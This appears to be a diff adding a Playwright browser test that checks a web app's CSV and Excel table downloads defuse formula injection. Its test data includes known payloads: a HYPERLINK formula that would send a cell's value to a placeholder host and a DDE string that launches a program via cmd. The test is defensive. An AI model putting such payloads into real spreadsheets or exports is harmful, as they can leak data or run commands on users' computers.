@@ -2,16 +2,21 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import stat
+from collections import Counter
 from pathlib import Path
 
+import openpyxl
 import pytest
 from playwright.sync_api import Browser, Page, expect
 from sqlalchemy import text
-from sqlmodel import select
+from sqlmodel import col, select
 
 import models as m
-from sinergi.core.db import engine_for, make_engine, read_session
+from sinergi.core import spreadsheet
+from sinergi.core.db import engine_for, make_engine, read_session, write_session
 from sinergi.core.settings import LOGIN_POLICY
 from tests.browser import served_app
 from tests.conftest import DemoAccounts
@@ -97,3 +102,94 @@ def _sign_in(page: Page, username: str, password: str) -> None:
     form.get_by_label("Nama pengguna").fill(username)
     form.get_by_label("Kata sandi").fill(password)
     form.get_by_role("button", name="Masuk").click()
+
+
+HOSTILE = {
+    "program": '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")',
+    "meeting": "@SUM(1+1)",
+    "feedback": "+cmd|' /C calc'!A0",
+    "user": "-2+3",
+}
+
+
+def _formula_cells_in(name: str, data: bytes) -> list[str]:
+    """The cells of a downloaded table that a spreadsheet would run as a formula."""
+    if name.endswith(".xlsx"):
+        workbook = openpyxl.load_workbook(io.BytesIO(data))
+        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+        return [str(cell.value) for cell in cells if cell.data_type == "f"]
+    rows = csv.reader(io.StringIO(data.decode("utf-8-sig")))
+    return [cell for row in rows for cell in row if _runs(cell)]
+
+
+def _runs(cell: str) -> bool:
+    if not cell.startswith(spreadsheet.FORMULA_STARTS):
+        return False
+    try:
+        float(cell)  # a negative number is a number
+    except ValueError:
+        return True
+    return False
+
+
+@pytest.mark.browser
+def test_every_table_download_keeps_text_that_looks_like_a_formula_as_text(
+    browser: Browser, demo_copy_url: str, demo_accounts: DemoAccounts, tmp_path: Path
+) -> None:
+    engine = engine_for(demo_copy_url)
+    with write_session(engine) as session:
+        program = session.exec(select(m.Program).order_by(col(m.Program.id))).first()
+        meeting = session.exec(select(m.Meeting).order_by(col(m.Meeting.id))).first()
+        item = session.exec(select(m.FeedbackItem).order_by(col(m.FeedbackItem.id))).first()
+        admin = session.exec(select(m.User).where(m.User.username == demo_accounts.admin.username)).one()
+        assert program and meeting and item
+        program.name, meeting.title, item.text = HOSTILE["program"], HOSTILE["meeting"], HOSTILE["feedback"]
+        admin.display_name = HOSTILE["user"]
+    downloaded: dict[str, bytes] = {}
+    with served_app(demo_copy_url) as base:
+        page = browser.new_page(viewport={"width": 1366, "height": 900}, accept_downloads=True)
+        page.goto(f"{base}/programs")
+        _sign_in(page, demo_accounts.admin.username, PASSWORD)
+        expect(page.get_by_test_id("stDataFrame").first).to_be_visible(timeout=60_000)
+        page.get_by_test_id("stDataFrame").first.hover()
+        expect(page.get_by_test_id("stElementToolbar").first).to_be_attached(timeout=10_000)
+        expect(page.get_by_role("button", name="Download as CSV")).to_have_count(0)
+        for path in ("/programs", "/engagement", "/compliance", "/reporting", "/admin"):
+            page.goto(f"{base}{path}")
+            _rendered(page)
+            tabs = page.get_by_role("tab")
+            for index in range(max(tabs.count(), 1)):
+                if tabs.count():
+                    tabs.nth(index).click()
+                    _rendered(page)
+                for file_name, data in _download_every_table(page, tmp_path):
+                    downloaded[f"{path} {file_name}"] = data
+    assert Counter(name.rsplit(".", 1)[1] for name in downloaded) == Counter(
+        {"csv": len(downloaded) // 2, "xlsx": len(downloaded) // 2}
+    ), "every table offers both files"
+    assert len(downloaded) >= 16, sorted(downloaded)
+    running = {name: cells for name, data in downloaded.items() if (cells := _formula_cells_in(name, data))}
+    assert running == {}
+    everything = b"".join(downloaded.values()).decode("utf-8", errors="ignore")
+    assert "'=HYPERLINK" in everything and "'@SUM(1+1)" in everything, "the text is kept, as text"
+
+
+def _rendered(page: Page) -> None:
+    expect(page.locator('[data-testid="stApp"][data-test-script-state="notRunning"]')).to_be_attached(
+        timeout=60_000
+    )
+
+
+def _download_every_table(page: Page, folder: Path) -> list[tuple[str, bytes]]:
+    buttons = page.get_by_test_id("stDownloadButton").locator("button").filter(visible=True)
+    files = []
+    for index in range(buttons.count()):
+        label = buttons.nth(index).inner_text()
+        if "CSV" not in label and "Excel" not in label:
+            continue  # a report or an export of its own, not a table's
+        with page.expect_download(timeout=60_000) as started:
+            buttons.nth(index).click()
+        target = folder / started.value.suggested_filename
+        started.value.save_as(target)
+        files.append((started.value.suggested_filename, target.read_bytes()))
+    return files
